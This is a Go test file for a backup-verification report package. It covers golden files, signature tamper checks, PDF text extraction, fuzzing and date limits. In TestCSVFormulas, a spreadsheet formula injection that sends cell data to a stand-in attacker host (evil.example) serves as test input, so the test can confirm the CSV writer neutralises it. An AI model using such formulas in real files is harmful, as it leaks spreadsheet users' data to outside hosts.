package report_test

import (
	"bytes"
	"crypto/ed25519"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/backstop/backstop/jobs/report"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

// golden compares got with testdata/name, or rewrites it with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -run %s -update to write it)", err, t.Name())
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s differs from the golden file (-want +got):\n%s", name, diff)
	}
}

func TestGolden(t *testing.T) {
	c := newCatalog(t)
	src := fill(t, c)
	r := build(t, c, src)
	for _, format := range []string{"json", "csv"} {
		t.Run(format, func(t *testing.T) {
			out, err := report.Render(r, format, testKey)
			if err != nil {
				t.Fatal(err)
			}
			golden(t, "report."+format, out)
			v, err := report.Verify(out, testKey.Public().(ed25519.PublicKey))
			if err != nil {
				t.Fatalf("Verify(golden %s) = %v", format, err)
			}
			if diff := cmp.Diff(r.Summary, v.Summary); diff != "" {
				t.Errorf("Verify(%s).Summary (-built +verified):\n%s", format, diff)
			}
		})
	}
}

// TestFigures checks the fixture's figures by hand: the golden files hold what these say.
func TestFigures(t *testing.T) {
	c := newCatalog(t)
	r := build(t, c, fill(t, c))
	s := r.Summary
	if s.Backups != 2 || s.VerifyRuns != 1 || s.Findings != 1 || s.Drills != 2 || s.DrillsPassed != 1 || s.Alerts != 1 || s.Restores != 1 {
		t.Fatalf("summary = %+v, want 2 backups, 1 run with 1 finding, 2 drills (1 passed), 1 alert, 1 restore", s)
	}
	src := r.Sources[0]
	if a := src.Alerts[0]; a.SecondsToAcknowledge == nil || *a.SecondsToAcknowledge != 300 || a.SecondsToResolve == nil || *a.SecondsToResolve != 3600 {
		t.Errorf("alert = %+v, want acknowledged after 300 s and resolved after 3600 s", a)
	}
	if b := src.Backups[0]; b.DurationSeconds != 420 || b.VerifyState != "ok" || src.Backups[1].VerifyState != "" {
		t.Errorf("backups = %+v, want the first taking 420 s and verified, the second not", src.Backups)
	}
	if d := src.Drills[0]; d.RTOSeconds != 83.5 || d.TargetAt.Format("15:04") != "05:30" {
		t.Errorf("drill = %+v, want RTO 83.5 s proving 05:30", d)
	}
	if src.Window.Held || len(src.Window.Gaps) == 0 {
		t.Errorf("window = %+v, want not held: no WAL after 11-03 10:00", src.Window)
	}
	if len(src.Days) != 3 {
		t.Fatalf("days = %d, want 3", len(src.Days))
	}
	// Day 1: provable from backup 1's consistency (in segment 2, before 06:59) to the end,
	// as the drill of 06:00 proves it (the hours before the drill are not).
	d1 := src.Days[0]
	if d1.Share <= 0 || d1.Share >= 1 || !strings.Contains(gapReasons(d1), "no verified base backup before") ||
		!strings.Contains(gapReasons(d1), "no passing drill within 36h0m0s") {
		t.Errorf("day 1 = %+v, want part provable, the gaps naming the missing verified base and drill", d1)
	}
	// Day 2: the WAL gap (segment 6) at 01:00, and nothing verified after it.
	d2 := src.Days[1]
	if !strings.Contains(gapReasons(d2), "WAL gap") && !strings.Contains(gapReasons(d2), "no verified WAL after") {
		t.Errorf("day 2 gaps = %q, want the WAL gap or the unverified WAL", gapReasons(d2))
	}
	if d3 := src.Days[2]; d3.ProvableSeconds != 0 || d3.MeasuredSeconds != 86400 {
		t.Errorf("day 3 = %+v, want nothing provable of 86400 s", d3)
	}
	if err := r.Check(); err != nil {
		t.Errorf("Check() = %v", err)
	}
}

func gapReasons(d report.Day) string {
	var out []string
	for _, g := range d.Gaps {
		out = append(out, g.Reason)
	}
	return strings.Join(out, " | ")
}

// TestTamper changes one byte of each format at many places: in the body, in the
// signature, in the PDF's streams; every change must make Verify fail.
func TestTamper(t *testing.T) {
	c := newCatalog(t)
	r := build(t, c, fill(t, c))
	for _, format := range report.Formats {
		t.Run(format, func(t *testing.T) {
			out, err := report.Render(r, format, testKey)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := report.Verify(out, nil); err != nil {
				t.Fatalf("Verify(untouched) = %v", err)
			}
			positions := []int{0, 1, len(out) / 3, len(out) / 2, len(out) - 2, len(out) - 1}
			for step := len(out) / 97; step > 0 && len(positions) < 120; {
				positions = append(positions, len(positions)*step%len(out))
			}
			// The signature line and, in a PDF, a compressed stream.
			sigAt := bytes.LastIndex(out, []byte("Ed25519")) + 10
			positions = append(positions, sigAt, sigAt+50, len(out)-10)
			if i := bytes.Index(out, []byte("stream\n")); i >= 0 {
				positions = append(positions, i+7, i+30)
			}
			for _, pos := range positions {
				for _, flip := range []byte{0x01, 0x20, 0x80} {
					bad := bytes.Clone(out)
					bad[pos] ^= flip
					if _, err := report.Verify(bad, nil); err == nil {
						t.Errorf("Verify(%s with byte %d ^ %#x) = nil, want an error", format, pos, flip)
					}
				}
			}
			if _, err := report.Verify(out[:len(out)-1], nil); err == nil {
				t.Error("Verify(truncated) = nil, want an error")
			}
			if _, err := report.Verify(append(bytes.Clone(out), '\n'), nil); err == nil {
				t.Error("Verify(with a byte appended) = nil, want an error")
			}
		})
	}
}

// TestOtherKey checks that a report signed with another key verifies only without --key.
func TestOtherKey(t *testing.T) {
	c := newCatalog(t)
	r := build(t, c, fill(t, c))
	other := ed25519.NewKeyFromSeed(bytes.Repeat([]byte{9}, 32))
	out, err := report.Render(r, "json", other)
	if err != nil {
		t.Fatal(err)
	}
	v, err := report.Verify(out, nil)
	if err != nil || v.Fingerprint == report.Fingerprint(testKey.Public().(ed25519.PublicKey)) {
		t.Fatalf("Verify = %v, %v; want it to hold, naming the other key", v.Fingerprint, err)
	}
	if _, err := report.Verify(out, testKey.Public().(ed25519.PublicKey)); err == nil {
		t.Error("Verify(signed by another key, trusted key given) = nil, want an error")
	}
}

// TestPDFText extracts the PDF's text with poppler's pdftotext: the key figures are there.
func TestPDFText(t *testing.T) {
	if _, err := exec.LookPath("pdftotext"); err != nil {
		t.Fatal("pdftotext is missing: install poppler-utils (.ci/deps poppler)")
	}
	c := newCatalog(t)
	r := build(t, c, fill(t, c))
	out, err := report.Render(r, "pdf", testKey)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "report.pdf")
	if err := os.WriteFile(path, out, 0o644); err != nil {
		t.Fatal(err)
	}
	text, err := exec.Command("pdftotext", "-layout", path, "-").CombinedOutput()
	if err != nil {
		t.Fatalf("pdftotext: %v\n%s", err, text)
	}
	s := r.Summary
	for _, want := range []string{
		"Backstop verification report", "2026-11-01 to 2026-11-03", "Source app",
		"2 (2 complete", "1 (1 findings)", "2 (1 passed)", report.Fingerprint(testKey.Public().(ed25519.PublicKey)),
		fmt.Sprintf("%.2f%%", s.Coverage*100), "20261101T010000Z-aaaa0001", "20261102T180000Z-aaaa0002", "83.5 s", "2026-11-01 05:30:00 UTC",
		"Archiving of app lags 12 minutes", "5m0s", "1h0m0s", "time 2026-11-01 12:00:00+00", "no passing drill within 36h0m0s",
		"NOT restorable throughout",
	} {
		if !bytes.Contains(text, []byte(want)) {
			t.Errorf("pdftotext output lacks %q:\n%s", want, text)
		}
	}
}

// FuzzVerify: no input makes Verify panic, and none but the signed files themselves
// verifies (a report cannot be made without the key).
func FuzzVerify(f *testing.F) {
	var seeds [][]byte
	for _, name := range []string{"report.json", "report.csv"} {
		b, err := os.ReadFile(filepath.Join("testdata", name))
		if err != nil {
			f.Fatal(err)
		}
		seeds = append(seeds, b)
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		if _, err := report.Verify(data, nil); err == nil {
			for _, s := range seeds {
				if bytes.Equal(s, data) {
					return
				}
			}
			t.Errorf("Verify(%q) = nil: a report verified that was never signed", data)
		}
	})
}

// TestCSVFormulas checks that text in a CSV report that a spreadsheet would run (a drill's
// error, a restore's target) is written as text, and that the report still verifies.
func TestCSVFormulas(t *testing.T) {
	c := newCatalog(t)
	r := build(t, c, fill(t, c))
	if len(r.Sources[0].Drills) == 0 {
		t.Fatal("the fixture has no drill")
	}
	formula := `=HYPERLINK("http://evil.example/?"&A1,"open")`
	r.Sources[0].Drills[0].Error = formula
	out, err := report.Render(r, "csv", testKey)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(out, []byte(`,"=HYPERLINK`)) || !bytes.Contains(out, []byte(`,"'=HYPERLINK`)) {
		t.Errorf("the drill error is not written as text:\n%s", out)
	}
	if _, err := report.Verify(out, testKey.Public().(ed25519.PublicKey)); err != nil {
		t.Errorf("Verify(report with a neutralized formula) = %v", err)
	}
}

// TestPeriodEndsBy9999: a period running into year 10000 is refused before anything is
// built, rather than failing to render (JSON, PDF) or rendering a CSV that does not verify.
func TestPeriodEndsBy9999(t *testing.T) {
	from := time.Date(9999, 12, 30, 0, 0, 0, 0, time.UTC)
	if err := report.CheckPeriod(from, from.AddDate(0, 0, 2)); err == nil {
		t.Error("CheckPeriod(9999-12-30, 10000-01-01) = nil, want an error")
	}
	if err := report.CheckPeriod(from.AddDate(0, 0, -1), from); err != nil {
		t.Errorf("CheckPeriod(9999-12-29, 9999-12-30) = %v, want nil", err)
	}
}
